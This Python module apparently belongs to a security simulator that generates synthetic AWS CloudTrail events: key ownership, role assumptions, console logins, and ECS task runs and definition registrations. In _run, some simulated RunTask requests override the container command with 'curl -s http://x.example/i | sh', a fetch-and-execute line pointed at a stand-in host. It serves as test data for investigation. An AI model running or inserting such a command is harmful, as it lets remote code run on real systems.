"""Whose the keys are that findings name, and who started the tasks whose roles they are."""

from __future__ import annotations

import random
import re
from typing import Any, NamedTuple

from tracehound.simulator.trail.callers import Caller, Role, Wish, assume, iam_user, service, source_of
from tracehound.simulator.trail.events import GLOBAL, Record, Source, record, stamp
from tracehound.simulator.trail.openers import Stage
from tracehound.simulator.trail.roads import single_sign_on, travel
from tracehound.simulator.trail.seen import Key, Task

Json = dict[str, Any]
_TASK = re.compile(r"[0-9a-f]{32}")
_EXEC = ("ExecuteCommand", "StartSession", "SendCommand")
_AGENT = "Boto3/1.35.20 md/Botocore#1.35.20 ua/2.0 os/linux#5.10.226 lang/python#3.9.16"


class Owned(NamedTuple):
    """The truth about a key: its calls, the steps back, the first identity, and AssumeRole by services."""

    key: Key
    calls: tuple[str, ...]
    caller: Caller
    by_services: tuple[str, ...]
    task: str | None


def own(stage: Stage, key: Key) -> Owned:
    """The events of one key: how it was issued, and what findings say was called with it."""
    rng = random.Random(f"{stage.seed}:key:{key.key}:{key.account_id}")
    session = key.principal_id.partition(":")[2]
    by_services: tuple[str, ...] = ()
    if key.user_type != "AssumedRole":
        caller = _user(stage, rng, key)
    elif _TASK.fullmatch(session) or session.startswith("i-"):
        caller, by_services = _of_service(stage, rng, key, session)
    else:
        caller = _assumed(stage, rng, key, session)
    made = [_call(rng, key, caller, call) for call in key.calls if call[0] not in _EXEC]
    stage.records += made
    for each in made:
        stage.callers[each.event_id] = caller
    task = session if _TASK.fullmatch(session) else None
    # A login has no key yet.
    used = tuple(each.event_id for each in made if "accessKeyId" in each.event["userIdentity"])
    return Owned(key, used, caller, by_services, task)


def _user(stage: Stage, rng: random.Random, key: Key) -> Caller:
    arn = f"arn:aws:iam::{key.account_id}:user/{key.user_name}"
    identity = {
        "type": key.user_type,
        "principalId": key.principal_id,
        "arn": arn,
        "accountId": key.account_id,
        "accessKeyId": key.key,
        "userName": key.user_name,
    }
    return Caller(
        key.account_id, identity, Source("", _AGENT), f"user {arn}", (("iam_user", arn),), first=arn
    )


def _role(key: Key) -> Role:
    return Role(key.account_id, key.user_name, key.principal_id.partition(":")[0])


def _of_service(stage: Stage, rng: random.Random, key: Key, session: str) -> tuple[Caller, tuple[str, ...]]:
    """Keys of a task or instance: a service assumes the role for it, and CloudTrail has that mostly."""
    name = "ecs-tasks" if _TASK.fullmatch(session) else "ec2"
    identity, source = service(name)
    nobody = Caller(key.account_id, identity, source, None, (), first=f"{name}.amazonaws.com")
    at = key.first - rng.uniform(100, 3000)
    caller, made = assume(rng, nobody, _role(key), Wish(session, None, key=key.key), key.region, at)
    if rng.random() < 0.6:
        stage.records += made
        return caller, tuple(each.event_id for each in made)
    return caller, ()


def _assumed(stage: Stage, rng: random.Random, key: Key, session: str) -> Caller:
    """A role under a name of choice: by a user, by single sign-on, or at the end of a chain."""
    at = key.first - rng.uniform(30, 3000)
    journey = stage.journey(rng, key.account_id, key.region, at)
    drawn = rng.random()
    if drawn < 0.4:
        user = rng.choice(stage.world.users_of[key.account_id])
        caller = iam_user(rng, user, source_of(rng, journey.employee()), at)
    elif drawn < 0.7:
        caller = single_sign_on(journey, at=at - rng.uniform(5, 600))
    else:
        journey.at = at
        caller = travel(journey)
    wish = Wish(session, f"name {session}", key=key.key)
    became = journey.assume(caller, _role(key), wish, at, GLOBAL if rng.random() < 0.2 else None)
    stage.keep(journey)
    return became


def _call(rng: random.Random, key: Key, caller: Caller, call: tuple[str, str, str]) -> Record:
    api, host, address = call
    where, service_ = (key.account_id, key.region), host.removesuffix(".amazonaws.com")
    source = Source(address, caller.source.agent or _AGENT)
    at = key.first + (rng.random() * (key.last - key.first) if rng.random() < 0.5 else 0)
    if api == "ConsoleLogin":
        identity = {name: value for name, value in caller.identity.items() if name != "accessKeyId"}
        more: Json = {
            "eventType": "AwsConsoleSignIn",
            "additionalEventData": {
                "LoginTo": "https://console.aws.amazon.com",
                "MobileVersion": "No",
                "MFAUsed": rng.choice(("Yes", "No")),
            },
        }
        return record(
            rng, where, at, ("signin", api), identity, source, None, {"ConsoleLogin": "Success"}, **more
        )
    # What matters of these calls is the key; some trails drop what was asked.
    return record(rng, where, at, (service_, api), caller.identity, source, None, None)


class Started(NamedTuple):
    """The truth about a task: the call that started it and the one that registered its definition."""

    task: Task
    started: str | None
    registered: str | None


def start_tasks(stage: Stage, tasks: list[Task]) -> list[Started]:
    """Who ran each task, unless its service did, and who registered its definition."""
    registered: dict[str, str] = {}
    found = []
    for task in sorted(tasks, key=lambda task: (task.created_at, task.arn)):
        rng = random.Random(f"{stage.seed}:task:{task.arn}")
        run = None
        if not task.started_by.startswith("ecs-svc/"):
            run = _run(stage, rng, task)
        if task.definition not in registered:
            registered[task.definition] = _register(stage, rng, task)
        found.append(Started(task, run, registered[task.definition]))
    return found


def _keep(stage: Stage, made: Record, caller: Caller) -> str:
    stage.records.append(made)
    stage.callers[made.event_id] = caller
    return made.event_id


def _caller(stage: Stage, rng: random.Random, task: Task, at: float) -> Caller:
    journey = stage.journey(rng, task.account_id, task.region, at)
    caller = travel(journey)
    stage.keep(journey)
    return caller


def _run(stage: Stage, rng: random.Random, task: Task) -> str:
    at = task.created_at - rng.uniform(0, 2)
    caller = _caller(stage, rng, task, at)
    override = [{"name": task.container, "command": ["sh", "-c", "curl -s http://x.example/i | sh"]}]
    request: Json = {
        "cluster": task.cluster.rsplit("/", 1)[-1],
        "taskDefinition": task.definition.rsplit("/", 1)[-1],
        "count": 1,
        "enableExecuteCommand": True,
        "startedBy": task.started_by,
        "overrides": {"containerOverrides": override if rng.random() < 0.5 else []},
    }
    response = {
        "tasks": [
            {
                "taskArn": task.arn,
                "clusterArn": task.cluster,
                "taskDefinitionArn": task.definition,
                "lastStatus": "PROVISIONING",
                "startedBy": task.started_by,
                "group": f"family:{task.container}",
                "createdAt": stamp(task.created_at),
                "containers": [{"name": task.container, "image": task.image, "lastStatus": "PENDING"}],
            }
        ],
        "failures": [],
    }
    where = task.account_id, task.region
    return _keep(
        stage,
        record(rng, where, at, ("ecs", "RunTask"), caller.identity, caller.source, request, response),
        caller,
    )


def _register(stage: Stage, rng: random.Random, task: Task) -> str:
    at = task.created_at - rng.uniform(60, 1200)
    caller = _caller(stage, rng, task, at)
    family, _, revision = task.definition.rsplit("/", 1)[-1].partition(":")
    role = f"arn:aws:iam::{task.account_id}:role/{family}-task-role"
    container = {
        "name": task.container,
        "image": task.image,
        "essential": True,
        "cpu": 0,
        "environment": "HIDDEN_DUE_TO_SECURITY_REASONS",
    }
    request = {
        "family": family,
        "containerDefinitions": [container],
        "taskRoleArn": role,
        "executionRoleArn": f"arn:aws:iam::{task.account_id}:role/ecsTaskExecutionRole",
        "networkMode": "awsvpc",
    }
    response = {
        "taskDefinition": {
            **request,
            "taskDefinitionArn": task.definition,
            "revision": int(revision or 1),
            "status": "ACTIVE",
            "registeredAt": stamp(at),
            "registeredBy": caller.identity["arn"],
        }
    }
    where, call = (task.account_id, task.region), ("ecs", "RegisterTaskDefinition")
    return _keep(
        stage, record(rng, where, at, call, caller.identity, caller.source, request, response), caller
    )
